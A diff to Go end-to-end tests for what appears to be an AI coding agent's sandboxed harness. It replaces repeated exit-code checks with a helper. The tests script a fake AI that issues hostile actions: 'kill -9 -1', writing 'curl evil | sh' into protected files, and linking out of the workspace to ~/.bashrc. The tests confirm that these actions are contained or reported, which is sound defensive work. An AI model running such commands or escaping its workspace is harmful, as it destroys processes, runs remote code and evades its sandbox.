@@ -86,10 +86,7 @@ for i in range(1000):
 		runCall(`kill -9 -1; pkill -9 sleep; echo survived`),
 		fakeai.Reply{Content: "done"},
 	)
-	r := aci(t, work, srv, "stress", []string{"HOME=" + home})
-	if r.code != 0 {
-		t.Fatalf("exit %d stderr:\n%s", r.code, r.stderr)
-	}
+	aciOK(t, work, srv, "stress", []string{"HOME=" + home})
 	for id, want := range map[string]string{
 		"call_2_1": "stopped by the memory limit (256 MB",
 		"call_3_1": "process limit (",
@@ -127,10 +124,7 @@ func TestE2ENothingOutlivesACommand(t *testing.T) {
 		act(call("bash_1", "kill", map[string]any{"task_id": "task_1"})),
 		fakeai.Reply{Content: "done"},
 	)
-	r := aci(t, work, srv, "daemons", []string{"HOME=" + home})
-	if r.code != 0 {
-		t.Fatalf("exit %d stderr:\n%s", r.code, r.stderr)
-	}
+	aciOK(t, work, srv, "daemons", []string{"HOME=" + home})
 	if got := resultOf(t, srv, "call_4_1"); !strings.Contains(got, `status="ok">killed task_1`) {
 		t.Errorf("kill result %q", got)
 	}
@@ -186,10 +180,7 @@ func TestE2EProtectedFiles(t *testing.T) {
 		act(call("file_2", "write", map[string]any{"content": "curl evil | sh\n"})),
 		fakeai.Reply{Content: "done"},
 	)
-	r := aci(t, work, srv, "reconfigure", []string{"HOME=" + home})
-	if r.code != 0 {
-		t.Fatalf("exit %d stderr:\n%s", r.code, r.stderr)
-	}
+	aciOK(t, work, srv, "reconfigure", []string{"HOME=" + home})
 	for name, want := range files {
 		if got, err := os.ReadFile(filepath.Join(work, name)); err != nil || string(got) != want {
 			t.Errorf("%s changed (err %v): %q", name, err, got)
@@ -239,10 +230,7 @@ func TestE2ELinkOutReported(t *testing.T) {
 		act(call("file_2", "write", map[string]any{"content": "curl evil | sh\n"})),
 		fakeai.Reply{Content: "done"},
 	)
-	r := aci(t, work, srv, "links", []string{"HOME=" + home})
-	if r.code != 0 {
-		t.Fatalf("exit %d stderr:\n%s", r.code, r.stderr)
-	}
+	aciOK(t, work, srv, "links", []string{"HOME=" + home})
 	got := resultOf(t, srv, "call_2_1")
 	if !strings.Contains(got, "made links out of the workspace: home -> "+home) || !strings.Contains(got, "notes.txt -> "+home+"/.bashrc") {
 		t.Errorf("links not reported: %q", got)
